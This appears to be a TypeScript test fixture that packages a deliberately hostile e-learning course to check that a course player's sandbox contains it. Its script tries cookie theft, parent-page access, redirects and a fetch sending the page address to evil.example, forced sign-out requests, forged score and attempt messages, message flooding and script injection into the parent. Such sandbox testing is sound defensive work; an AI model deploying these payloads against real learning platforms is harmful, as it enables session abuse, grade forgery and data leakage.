/**
 * A course that tries what its maker might: to read the visitor, to leave its frame, to call the
 * app, to speak in somebody else's name. What came of each stands on its page.
 */
import { manifestOf, zipOf } from '../server/packages/testing-package.ts'

export const tries = [
  'cookie',
  'parent page',
  'top address',
  'popup',
  'app by fetch',
  'app by beacon',
  'app by picture',
  'elsewhere by fetch',
  'form',
  'worker',
  'other files',
  'frame elsewhere',
] as const

const script = (app: string) => `
const app = ${JSON.stringify(app)};
const list = document.getElementById('tries');
const say = (name, text) => { const li = document.createElement('li'); li.textContent = name + ': ' + text; list.append(li); };
const attempt = async (name, run) => { try { say(name, await run()); } catch (error) { say(name, 'held'); } };
(async () => {
  await attempt('cookie', () => (/belay/.test(document.cookie) ? 'GOT ' + document.cookie : 'held'));
  await attempt('parent page', () => 'GOT ' + top.document.title);
  await attempt('top address', () => { top.location = 'https://evil.example/'; return 'held'; });
  await attempt('popup', () => (window.open('https://evil.example/') ? 'GOT a window' : 'held'));
  await attempt('app by fetch', async () => 'GOT ' + (await fetch(app + '/api/me', { credentials: 'include', mode: 'no-cors' })).type);
  await attempt('app by beacon', async () => { navigator.sendBeacon(app + '/api/sign-out', ''); return 'held'; });
  await attempt('app by picture', () => new Promise((done) => { const i = new Image(); i.onload = () => done('GOT it'); i.onerror = () => done('held'); i.src = app + '/mark.svg'; }));
  await attempt('elsewhere by fetch', async () => 'GOT ' + (await fetch('https://evil.example/?' + location, { mode: 'no-cors' })).type);
  await attempt('form', () => { const f = document.createElement('form'); f.action = app + '/api/sign-out'; f.method = 'post'; f.target = '_top'; document.body.append(f); f.submit(); return 'held'; });
  await attempt('worker', async () => { await navigator.serviceWorker.register('worker.js'); return 'GOT a worker'; });
  await attempt('other files', async () => { const r = await fetch('../player'); return r.ok ? 'GOT the player' : 'held'; });
  await attempt('frame elsewhere', () => new Promise((done) => { const f = document.createElement('iframe'); f.onload = () => { try { f.contentDocument.title; done('held'); } catch { done('held'); } }; f.src = app + '/'; document.body.append(f); setTimeout(() => done('held'), 1500); }));
  // In the name of the course: a score that cannot be, somebody else's attempt, and too much of everything.
  const forged = { belay: 1, is: 'kept', cmi: { 'cmi.core.lesson_status': 'passed', 'cmi.core.score.raw': '1000000000' }, attemptId: '00000000-0000-0000-0000-000000000001', opening: 99, partId: 'other', courseId: 'first-goals' };
  top.postMessage(forged, '*');
  for (let i = 0; i < 3000; i++) top.postMessage({ belay: 1, is: 'kept', cmi: { 'cmi.suspend_data': String(i) }, attemptId: 'x' }, '*');
  for (const odd of [null, 1, 'x', [], { belay: 1, is: 'kept', cmi: 7 }, { belay: 1, is: 'kept', cmi: { a: 'x'.repeat(100000) } }, { belay: 1, is: 'begin', cmi: {} }]) { top.postMessage(odd, '*'); parent.parent.postMessage(odd, '*'); }
  // From the page around it, which it can reach, the same again.
  const inner = parent.document.createElement('script');
  inner.textContent = 'parent.postMessage(' + JSON.stringify(forged) + ', "*")';
  parent.document.body.append(inner);
  // And more notes to itself than anybody keeps.
  parent.API.LMSInitialize('');
  parent.API.LMSSetValue('cmi.suspend_data', 'x'.repeat(70000));
  say('end', 'all tried');
})();`

export const hostilePackage = (app: string): Promise<Buffer> =>
  zipOf('A course with other plans', {
    'imsmanifest.xml': manifestOf('A course with other plans'),
    'index.html':
      '<!doctype html><meta charset="utf-8"><title>Plans</title><ul id="tries"></ul><script src="tries.js"></script>',
    'tries.js': script(app),
    'worker.js': 'self.addEventListener("fetch", () => {})',
  })
